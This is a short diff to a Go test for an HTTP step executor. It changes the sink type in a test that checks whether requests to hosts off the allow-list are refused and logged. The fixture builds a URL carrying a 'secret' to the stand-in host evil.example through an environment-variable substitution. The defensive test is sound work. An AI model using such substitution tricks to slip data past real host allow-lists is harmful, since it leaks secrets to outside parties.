@@ -10,6 +10,7 @@ import (
 
 	"github.com/stretchr/testify/require"
 
+	"stepcast/executor/executortest"
 	stepcasthttp "stepcast/executor/http"
 	"stepcast/models"
 )
@@ -110,7 +111,7 @@ func TestOperatorsLearnOfRefusals(t *testing.T) {
 	o := options("good.example")
 	o.Logger = slog.New(slog.NewTextHandler(&log, nil))
 	c := content{params: object{"url": "http://${host}/a?secret"}, env: map[string]string{"host": "evil.example"}}
-	var sink running
+	var sink executortest.Sink
 	result, err := stepcasthttp.New(o).Execute(t.Context(), c.request(t), &sink)
 	require.NoError(t, err)
 	require.NotNil(t, result.Failure)
